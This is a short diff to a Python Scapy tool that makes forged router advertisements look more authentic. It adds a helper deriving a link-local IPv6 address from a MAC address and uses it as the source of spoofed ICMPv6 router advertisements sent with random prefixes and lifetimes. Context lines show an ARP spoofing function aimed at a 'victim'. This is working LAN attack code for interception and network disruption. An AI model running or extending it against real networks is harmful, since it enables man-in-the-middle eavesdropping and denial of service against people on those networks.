@@ -18,6 +18,13 @@ def hardware_address(chance: random.Random, vendor: str) -> str:
     return ":".join([vendor, *(f"{chance.randrange(256):02x}" for _ in range(3))])
 
 
+def linked(hardware: str) -> str:
+    """The link-local IPv6 address of a hardware address (RFC 4291)."""
+    first, *rest = bytes.fromhex(hardware.replace(":", ""))
+    halves = bytes([first ^ 2, *rest[:2], 0xFF, 0xFE, *rest[2:]])
+    return "fe80::" + ":".join(halves[at : at + 2].hex() for at in range(0, 8, 2))
+
+
 def arp(options, _chance):
     """Tells the victim that the peer is here, and the other way round."""
     own = get_if_hwaddr(options.interface)
@@ -54,7 +61,7 @@ def router(options, chance):
     for _ in range(options.count):
         sender = hardware_address(chance, options.vendor)
         prefix = f"2001:db8:{chance.randrange(65536):x}:{chance.randrange(65536):x}::"
-        frame = (Ether(src=sender, dst="33:33:00:00:00:01") / IPv6(src=f"fe80::{chance.getrandbits(64):x}", dst="ff02::1", hlim=255)
+        frame = (Ether(src=sender, dst="33:33:00:00:00:01") / IPv6(src=linked(sender), dst="ff02::1", hlim=255)
                  / ICMPv6ND_RA(routerlifetime=chance.choice((0, 1800, 65535)))
                  / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64) / ICMPv6NDOptSrcLLAddr(lladdr=sender))
         sendp(frame, iface=options.interface, verbose=False)
